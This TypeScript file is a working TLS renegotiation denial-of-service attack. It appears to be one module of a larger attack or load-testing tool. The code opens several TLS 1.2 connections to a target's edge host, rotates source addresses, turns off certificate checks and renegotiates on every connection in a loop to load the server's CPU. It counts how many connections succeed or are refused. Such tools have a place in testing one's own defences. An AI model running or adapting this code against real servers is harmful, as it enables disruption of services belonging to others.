import { connect, type TLSSocket } from 'node:tls';
import { inTurn, ports, type Attack, type Target } from './attack';
import { pace } from './pace';

const connections = 4;

/** ms */
const patience = 500;

/** TLS 1.2 on a few connections, each of which wants new keys again and again: a handshake costs the server more. */
export const renegotiation: Attack = {
  from: 'strangers',
  run: async (target) => {
    const source = inTurn(target.sources);
    const sockets = new Set<TLSSocket>();
    await pace(target, 20, () => {
      if (sockets.size >= connections) return false;
      const socket = open(target, source());
      sockets.add(socket);
      socket.on('close', () => sockets.delete(socket));
      return true;
    });
    for (const socket of sockets) socket.destroy();
  },
};

function open(target: Target, source: string): TLSSocket {
  const { edge, count, stop } = target;
  const options = { host: edge, port: ports.tls, localAddress: source, rejectUnauthorized: false };
  const socket = connect({ ...options, maxVersion: 'TLSv1.2' });
  let times = 0;
  const again = () => {
    if (stop.aborted || socket.destroyed) return;
    socket.renegotiate({ rejectUnauthorized: false }, (error) => {
      if (error !== null) return;
      times += 1;
      count('renegotiated');
      again();
    });
  };
  // It comes again with each renegotiation.
  socket.once('secureConnect', () => {
    count('connected');
    again();
    // A server may refuse without a word that Node passes on.
    setTimeout(() => {
      if (times > 0) return;
      count('not renegotiated');
      socket.destroy();
    }, patience);
  });
  socket.on('error', () => undefined);
  socket.on('close', () => {
    if (!stop.aborted) count('closed');
  });
  return socket;
}
